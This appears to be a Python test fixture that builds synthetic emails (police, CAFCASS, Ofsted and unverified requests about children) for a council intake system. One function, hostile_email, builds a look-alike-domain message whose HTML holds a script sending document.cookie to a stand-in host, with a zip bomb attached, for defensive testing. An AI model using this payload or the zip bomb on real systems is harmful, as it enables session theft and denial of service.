"""Realistic emails for the intake tests: synthetic people, real formats."""

import io
import zipfile
from datetime import UTC, datetime
from email.message import EmailMessage
from email.utils import format_datetime

from hard_copy_factories import PDF
from msg_file import outlook_msg

SENT = datetime(2026, 12, 1, 9, 14, tzinfo=UTC)


def _email(sender: str, subject: str, text: str, message_id: str, **headers) -> EmailMessage:
    email = EmailMessage()
    email["From"], email["To"] = sender, "SCIMT <scimt@nottscc.gov.uk>"
    email["Subject"], email["Message-ID"] = subject, message_id
    email["Date"] = format_datetime(SENT)
    for name, value in headers.items():
        email[name.replace("_", "-")] = value
    email.set_content(text)
    return email


def police_email() -> bytes:
    return _email(
        '"Harris, Daniel" <daniel.harris@nottinghamshire.police.uk>',
        "Request for information - Operation Kestrel",
        """Good morning,

I am investigating an assault and would be grateful for any information held
about the following children:

Oliver Bennett, DOB 14/03/2015
Amelia Bennett (date of birth 2 June 2017)

Their mother has given her consent.

Kind regards

DC Daniel Harris
Detective Constable, Public Protection Unit
Nottinghamshire Police
Tel: 0115 967 0999
daniel.harris@nottinghamshire.police.uk
""",
        "<kestrel-0001@nottinghamshire.police.uk>",
    ).as_bytes()


def outlook_request() -> bytes:
    """A CAFCASS request saved from Outlook as .msg, with a PDF attached."""
    return outlook_msg(
        headers=(
            "From: Priya Shah <priya.shah@cafcass.gov.uk>\r\n"
            "To: scimt@nottscc.gov.uk\r\nSubject: Section 7 report - Lewis family\r\n"
            "Date: Tue, 01 Dec 2026 11:02:00 +0000\r\n"
            "Message-ID: <s7-lewis-22@cafcass.gov.uk>\r\n\r\n"
        ),
        subject="Section 7 report - Lewis family",
        sender="priya.shah@cafcass.gov.uk",
        body=(
            "Dear colleagues,\r\n\r\nI am preparing a section 7 report for the family court "
            "about Maisie Lewis, born 09.11.2016. The court order is attached.\r\n\r\n"
            "Many thanks\r\n\r\nPriya Shah\r\nFamily Court Adviser\r\n07700 900 456\r\n"
        ),
        attachments=[("Court order.pdf", PDF, "application/pdf")],
    )


def forwarded_outlook_request() -> bytes:
    """The SCIMT's own colleague forwards the .msg to the mailbox as an attachment."""
    email = _email(
        "Frontdoor Team <frontdoor@nottscc.gov.uk>",
        "FW: Section 7 report - Lewis family",
        "Passing this one to you.\n",
        "<fw-lewis-1@nottscc.gov.uk>",
    )
    email.add_attachment(
        outlook_request(),
        maintype="application",
        subtype="vnd.ms-outlook",
        filename="Section 7 report - Lewis family.msg",
    )
    return email.as_bytes()


def reply_in_thread() -> bytes:
    return _email(
        "Tom Green <tom.green@ofsted.gov.uk>",
        "RE: Information about Jayden Cole",
        """Hello again,

Sorry, I missed the date of birth in my first email: it is 3rd May 2014.
Jayden Cole, date of birth 03/05/2014.

Best wishes

Tom Green
Social Care Regulatory Inspector
Ofsted
0300 123 1231

On 30 Nov 2026, at 16:02, Tom Green <tom.green@ofsted.gov.uk> wrote:
> Could you tell me whether Jayden Cole is known to children's social care?
""",
        "<reply-2@ofsted.gov.uk>",
        In_Reply_To="<first-1@ofsted.gov.uk>",
        References="<first-1@ofsted.gov.uk>",
    ).as_bytes()


def zip_bomb() -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("records.txt", b"\x00" * (50 * 1024 * 1024))
    return buffer.getvalue()


def hostile_email() -> bytes:
    """From a look-alike domain, a script in the HTML and a zip bomb attached."""
    email = _email(
        "IT Helpdesk <helpdesk@nottscc-gov.co>",
        "Urgent: records request",
        "Please open the attached records.\n",
        "<evil-1@nottscc-gov.co>",
    )
    email.add_alternative(
        "<p>Open</p><script>fetch('https://x.invalid/'+document.cookie)</script>", subtype="html"
    )
    email.add_attachment(zip_bomb(), maintype="application", subtype="zip", filename="records.zip")
    return email.as_bytes()


def untrusted_email() -> bytes:
    return _email(
        "Jo Carter <jo.carter@gmail.com>",
        "Information request",
        "I am a family support worker asking about Ella Ward, DOB 21/07/2019.\n\n"
        "Regards\n\nJo Carter\nFamily Support Worker\n07700 900 789\n",
        "<jo-1@gmail.com>",
    ).as_bytes()
